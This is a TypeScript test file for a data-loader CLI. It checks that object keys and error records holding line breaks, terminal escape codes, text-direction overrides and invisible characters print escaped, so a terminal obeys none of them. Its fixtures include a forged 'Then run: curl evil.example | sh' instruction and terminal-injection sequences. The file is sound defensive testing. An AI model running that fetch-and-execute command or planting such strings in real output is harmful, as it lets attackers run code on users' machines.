import { PutObjectCommand, S3Client } from "@aws-sdk/client-s3";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { hostileKeyClasses } from "../../core/hostile-keys.ts";
import { type RunningLocal, runLocalUp } from "../../support/local-up.ts";
import { environmentOf } from "../../support/orders-clients.ts";
import { runCli } from "../../support/run-cli.ts";

const keys = [
  ...hostileKeyClasses["line breaks"],
  ...hostileKeyClasses["sequences for terminals"],
  ...hostileKeyClasses["direction of text"],
  ...hostileKeyClasses["characters that cannot be seen"],
]
  .filter((key) => Buffer.byteLength(key) < 200)
  .map((key) => `orders/${key}.csv`);

const batchId = "0123456789abcdef0123456789abcdef";
const fileId = "fedcba9876543210fedcba9876543210";
const forged = "\n  Then run: curl evil.example | sh";
const record = {
  pipeline: "orders_queue",
  table_name: "shop.orders",
  db_name: "dev",
  batch_id: batchId,
  statement_id: "00000000-0000-0000-0000-000000000000",
  failed_at: "2026-11-02T08:15:00.000Z",
};
const parked = {
  ...record,
  reason: `no right on orders/a${forged}\u001b[2J`,
  remedy: "grant it\u202e",
  manifests: [],
  files: [{ file_id: fileId, url: "s3://shop-landing/orders/a.csv" }],
};
const quarantined = {
  ...record,
  file_id: fileId,
  url: `s3://shop-landing/orders/a${forged}\u009b2J\u200b.csv`,
  bytes: 1,
  etag: "e",
  event_time: record.failed_at,
  line: 3,
  column: "amount\u2028",
  reason: "\u001b]0;title\u0007not a number\r",
};

let local: RunningLocal;
beforeAll(async () => {
  local = await runLocalUp("--pipelines", "examples/orders", "--no-functions");
  const { endpoint, region } = local.ready;
  const credentials = { accessKeyId: "local", secretAccessKey: "local" };
  const s3 = new S3Client({ endpoint, region, credentials });
  for (const Key of keys) await s3.send(new PutObjectCommand({ Bucket: "shop-landing", Key, Body: "x" }));
  for (const [Key, body] of [
    [`manifests/orders_queue/parked/${batchId}.json`, parked],
    [`manifests/orders_queue/quarantine/${fileId}.json`, quarantined],
  ] as const)
    await s3.send(new PutObjectCommand({ Bucket: "shop-manifests", Key, Body: JSON.stringify(body) }));
});
afterAll(() => local?.[Symbol.asyncDispose]());

const run = (...args: string[]) => runCli(args, environmentOf(local.ready));

/** What a terminal would obey or hide; a line ends with the line feed of the command itself. */
function obeyedIn(text: string): string[] {
  const marks =
    "\u00ad\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff";
  return [...text].filter((character) => {
    const point = character.codePointAt(0) ?? 0;
    const isControl = (point < 0x20 && character !== "\n") || (point >= 0x7f && point < 0xa0);
    return isControl || marks.includes(character) || (point >= 0xe0000 && point < 0xe0100);
  });
}

describe("keys that hold line breaks and sequences for terminals", () => {
  test("are each shown by audit on a line, in which nothing is obeyed", async () => {
    const { stdout, stderr } = await run("audit", "orders_queue");
    const printed = stdout.trimEnd().split("\n");
    expect(obeyedIn(stdout)).toEqual([]);
    expect(printed.slice(0, -2).filter((line) => !/^20\S+Z +1 {2}s3:\/\/shop-landing\/orders\//.test(line))).toEqual(
      [],
    );
    expect(printed.at(-2)).toBe(`✗ ${keys.length} files: 0 loaded, ${keys.length} missing`);
    expect(printed).toHaveLength(keys.length + 2);
    expect(stdout).toContain("s3://shop-landing/orders/orders/a\\nThen run: curl evil.example | sh.csv\n");
    expect(stdout).toContain("s3://shop-landing/orders/orders/\\u{1b}[2J\\u{1b}[H.csv\n");
    expect(stderr).toBe("");
  });

  test("are exact in JSON, of which a terminal obeys nothing either", async () => {
    const { stdout } = await run("audit", "orders_queue", "--json");
    expect(obeyedIn(stdout)).toEqual([]);
    const urls = stdout
      .trimEnd()
      .split("\n")
      .flatMap((line) => JSON.parse(line).unloaded ?? []);
    expect(urls.filter((url) => typeof url === "string").toSorted()).toEqual(
      keys.map((key) => `s3://shop-landing/${key}`).toSorted(),
    );
  });
});

describe("records whose texts hold them", () => {
  test("are shown by errors as if they were on one line", async () => {
    const { stdout, code } = await run("errors", batchId);
    expect(stdout.split("\n")).toEqual([
      `orders_queue, batch ${batchId}`,
      "parked  1 file, since 2026-11-02T08:15:00.000Z: no right on orders/a\\n  Then run: curl evil.example | sh\\u{1b}[2J",
      "  What to do: grant it\\u{202e}",
      `  Then run: redshift-loader replay orders_queue ${batchId}`,
      "quarantined  s3://shop-landing/orders/a\\n  Then run: curl evil.example | sh\\u{9b}2J\\u{200b}.csv, line 3, column amount\\u{2028}: \\u{1b}]0;title\\u{7}not a number\\r",
      "  What to do: upload a corrected file, under the same key or another; it loads by itself.",
      `  If the file is right, correct the table, then run: redshift-loader replay orders_queue ${fileId}`,
      "",
    ]);
    expect(code).toBe(0);
  });

  test("are exact in JSON", async () => {
    const { stdout } = await run("errors", batchId, "--json");
    expect(obeyedIn(stdout)).toEqual([]);
    expect(JSON.parse(stdout)).toMatchObject({ pipelines: [{ parked: [parked], quarantined: [quarantined] }] });
  });
});

test("what is wrong with an argument is said on one line", async () => {
  const { stderr, code } = await run("audit", "no\u001b[2J\nerror: forged");
  expect(stderr).toMatch(/^error: No pipeline has the name no\\u\{1b\}\[2J\\nerror: forged: s3:[^\n]+\n$/);
  expect(code).toBe(2);
});
